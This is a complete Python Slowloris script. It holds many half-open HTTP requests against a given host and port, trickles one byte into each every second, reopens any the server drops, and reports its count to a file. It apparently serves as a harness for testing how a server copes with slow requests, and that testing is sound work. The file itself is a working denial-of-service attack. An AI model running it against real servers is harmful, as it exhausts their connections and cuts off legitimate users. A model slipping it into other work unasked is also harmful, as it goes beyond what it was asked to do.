#!/usr/bin/env python3
"""Holds half-open requests on a server, opens each one again that it closes, and sends them a byte now and then.

    slow_loris.py HOST PORT COUNT READY_FILE

Writes to READY_FILE how many it holds, once all are open and then every second. Ends by a signal.
"""
import os
import selectors
import socket
import sys
import time

HEAD = b"GET /v1/ledgers HTTP/1.1\r\nHost: a\r\nX-Slow: "


def opened(address):
    connection = socket.create_connection(address, timeout=5)
    connection.sendall(HEAD)
    connection.setblocking(False)
    return connection


def say(path, text):
    with open(path + ".part", "w") as file:
        file.write(text)
    os.replace(path + ".part", path)


def main():
    address, count, path = (sys.argv[1], int(sys.argv[2])), int(sys.argv[3]), sys.argv[4]
    selector = selectors.DefaultSelector()
    reopened = 0
    held = set()
    while True:
        while len(held) < count:
            connection = opened(address)
            selector.register(connection, selectors.EVENT_READ)
            held.add(connection)
        say(path, f"{len(held)} {reopened}\n")
        until = time.monotonic() + 1
        while (left := until - time.monotonic()) > 0:
            for key, _ in selector.select(left):  # whatever it says to an unfinished request, it is about to close it
                selector.unregister(key.fileobj)
                held.discard(key.fileobj)
                key.fileobj.close()
                reopened += 1
        for connection in list(held):
            try:
                connection.send(b"a")
            except OSError:
                pass  # closed: the selector says so next


main()
